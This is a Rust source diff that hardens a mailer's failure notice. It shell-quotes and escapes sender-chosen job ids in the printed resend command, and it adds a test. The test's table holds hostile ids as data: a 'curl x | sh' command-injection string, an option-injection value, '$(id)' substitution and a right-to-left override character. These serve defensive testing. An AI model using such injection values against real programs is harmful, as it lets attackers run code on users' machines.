@@ -3,6 +3,7 @@
 //! It holds addresses, which no log does. It is sent once and is nobody's job, so what becomes of it is logged and never
 //! told by another notice. More than `mail.notify_rate` are not sent: the next one that is names the jobs of the others.
 
+use std::borrow::Cow;
 use std::collections::VecDeque;
 use std::fmt::Write;
 use std::sync::{Arc, Mutex, MutexGuard, PoisonError};
@@ -12,10 +13,12 @@ use jiff::Timestamp;
 use tokio::time::Instant;
 
 use super::{DeliverError, Letter, Mailer, Sender};
+use crate::bounds::MAX_REASON_BYTES;
 use crate::config::{Config, ConfigError};
 use crate::job::{JobId, Recipient, RelayName};
 use crate::ledger::Outcome;
 use crate::quantity::Rate;
+use crate::text::{printable, shell_argument};
 
 /// How long a notice may take; its job's message waits meanwhile.
 const PATIENCE: Duration = Duration::from_secs(60);
@@ -182,10 +185,8 @@ impl Desk {
 impl Notice<'_> {
     fn subject(&self) -> String {
         let Self { job, failed, .. } = self;
-        format!(
-            "{failed} of {} mails not sent: {job}",
-            failed + self.accepted
-        )
+        let all = failed + self.accepted;
+        format!("{failed} of {all} mails not sent: {}", shown_id(job))
     }
 
     fn text(&self, held_back: &HeldBack) -> String {
@@ -197,7 +198,8 @@ impl Notice<'_> {
             ..
         } = self;
         let mut text = format!(
-            "The job {job} is done, but {failed} of its {} mails did not go out:\n\n",
+            "The job {} is done, but {failed} of its {} mails did not go out:\n\n",
+            shown_id(job),
             failed + accepted
         );
         let mut line = |line: std::fmt::Arguments<'_>| {
@@ -220,11 +222,22 @@ impl Notice<'_> {
             line(format_args!("  and {} more", failed - shown));
         }
         line(format_args!(
-            "\nWhen the cause is repaired, this sends these mails again, and no others:\n\n  handout job resend '{job}' --failed"
+            "\nWhen the cause is repaired, this sends these mails again, and no others:\n\n  handout job resend --failed -- {}",
+            shell_argument(job.as_str())
         ));
+        if shown_id(job) != job.as_str() {
+            line(format_args!(
+                "\nThe job's id holds characters that are not printed: where it says \\u{{…}}, the command needs the character."
+            ));
+        }
         held_back.tell(line);
         text
     }
+}
+
+/// A job's id, which the job's sender chose.
+fn shown_id(job: &JobId) -> Cow<'_, str> {
+    printable(job.as_str(), MAX_REASON_BYTES)
 }
 
 impl HeldBack {
@@ -236,7 +249,7 @@ impl HeldBack {
             "\nSince the last notice, mails of these jobs did not go out either (mail.notify_rate):\n"
         ));
         for job in &self.jobs {
-            line(format_args!("  {job}"));
+            line(format_args!("  {}", shown_id(job)));
         }
         if self.more > 0 {
             line(format_args!("  and {} more", self.more));
@@ -248,6 +261,7 @@ impl HeldBack {
 mod tests {
     use super::*;
     use crate::keyring::Keyring;
+    use crate::text::is_printable;
 
     fn desk() -> Desk {
         let config = Config {
@@ -301,13 +315,40 @@ mod tests {
 
         When the cause is repaired, this sends these mails again, and no others:
 
-          handout job resend 'acme-daily' --failed
+          handout job resend --failed -- 'acme-daily'
 
         Since the last notice, mails of these jobs did not go out either (mail.notify_rate):
 
           acme-weekly
           and 3 more
         ");
+    }
+
+    #[test]
+    fn a_notice_repeats_an_id_so_that_a_shell_and_a_terminal_take_it_for_one() {
+        let held_back = HeldBack {
+            jobs: vec!["held\u{202e}back".parse().unwrap()],
+            more: 0,
+        };
+        let table = [
+            (
+                "a'; curl x | sh; echo '",
+                r"-- 'a'\''; curl x | sh; echo '\'''",
+            ),
+            ("--config=/tmp/evil.toml", "-- '--config=/tmp/evil.toml'"),
+            ("$(id)", "-- '$(id)'"),
+            ("a\u{202e}b", r"-- 'a\u{202e}b'"),
+        ];
+        for (id, command) in table {
+            let job = id.parse().unwrap();
+            let notice = notice(&job);
+            let text = format!("{}\n{}", notice.subject(), notice.text(&held_back));
+            let command = format!("  handout job resend --failed {command}\n");
+            assert!(text.contains(&command), "{text}");
+            assert!(text.chars().all(|c| c == '\n' || is_printable(c)), "{text}");
+            let is_told = text.contains("holds characters that are not printed");
+            assert_eq!(is_told, id.contains('\u{202e}'));
+        }
     }
 
     #[test]
